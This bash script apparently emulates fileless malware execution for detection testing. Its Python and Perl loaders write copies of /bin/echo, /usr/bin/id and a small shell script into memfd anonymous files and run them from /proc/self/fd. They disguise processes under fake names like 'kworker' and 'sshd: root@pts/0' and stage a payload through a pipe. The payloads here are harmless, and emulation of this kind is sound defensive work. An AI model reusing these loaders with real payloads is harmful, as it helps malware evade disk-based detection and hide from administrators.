#!/usr/bin/env bash
# Family: fileless_memfd — fileless execution (MITRE T1620 reflective loading, T1027.011 fileless
# storage) as used by ezuri, Mirai variants, the "memrun"/"fireELF" tools and pentest frameworks:
# memfd_create an anonymous in-memory file, write an ELF or a script into it, and execute it via
# /proc/self/fd/N (or fexecve), so the payload never touches disk. The loader itself is piped into
# the interpreter on stdin (as with `curl ... | python3 -`), and a perl variant does the same
# through raw syscall(319).
#
# Payloads are harmless: a copy of /bin/echo and /usr/bin/id, and small shell scripts.
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init fileless_memfd

do_setup() {
    mkdir -p "$W"
}

do_run() {
    cd "$W"
    local rounds
    rounds=$(rand_int 1 3)
    # Python loader, fed on stdin (no loader file on disk either).
    timeout 20 "$PY" - "$rounds" <<'EOF'
import os, sys, subprocess, time, random
rounds = int(sys.argv[1])

def memfd_with(name, data):
    fd = os.memfd_create(name, 0)          # no MFD_CLOEXEC: the fd must survive exec
    os.write(fd, data)
    return fd

elf_echo = open("/bin/echo", "rb").read()
elf_id = open("/usr/bin/id", "rb").read()
script = b"#!/bin/sh\nid\nuname -a\nhostname\ncat /proc/self/cmdline | tr '\\0' ' '; echo\n"

for r in range(rounds):
    # 1. ELF in memfd, fork + execve("/proc/self/fd/N") with a fake argv[0]
    fd = memfd_with("", elf_echo)
    pid = os.fork()
    if pid == 0:
        os.execve("/proc/self/fd/%d" % fd, ["[kworker/u4:1]", "hello from memfd", str(r)], dict(os.environ))
    os.waitpid(pid, 0)
    os.close(fd)

    # 2. fexecve: execve on the fd itself (os.execve accepts an fd)
    fd = memfd_with("kworker", elf_id)
    pid = os.fork()
    if pid == 0:
        os.execve(fd, ["sshd: root@pts/0"], {"PATH": "/usr/bin:/bin"})
    os.waitpid(pid, 0)
    os.close(fd)

    # 3. a shell script in a memfd, run through its shebang via subprocess
    fd = memfd_with(".x", script)
    subprocess.run(["/proc/self/fd/%d" % fd], pass_fds=(fd,), check=False)
    os.close(fd)
    time.sleep(random.uniform(0.05, 0.4))

# 4. download-style: read a payload from a pipe into a memfd, then exec (stdin-less dropper)
r, w = os.pipe()
os.write(w, elf_echo); os.close(w)
fd = os.memfd_create("", 0)
while True:
    chunk = os.read(r, 65536)
    if not chunk: break
    os.write(fd, chunk)
os.close(r)
subprocess.run(["/proc/self/fd/%d" % fd, "staged payload ran"], pass_fds=(fd,), check=False)
print("memfd loader done")
EOF
    # Perl variant: syscall(319 = memfd_create), write ELF, exec /proc/$$/fd/N with a fake name.
    timeout 10 perl -e '
        my $name = "";
        my $fd = syscall(319, $name, 0);
        die "memfd_create failed: $!" if $fd < 0;
        open(my $fh, ">&=", $fd) or die "open: $!";
        binmode $fh;
        open(my $src, "<", "/bin/echo") or die; binmode $src;
        local $/; my $elf = <$src>; close $src;
        print $fh $elf; $fh->flush;
        my $pid = fork();
        if ($pid == 0) { exec {"/proc/$$/fd/$fd"} "[kworker/0:1]", "hello from perl memfd"; exit 1 }
        waitpid($pid, 0);
    '
}

do_teardown() {
    default_teardown
}

scenario_main "$@"
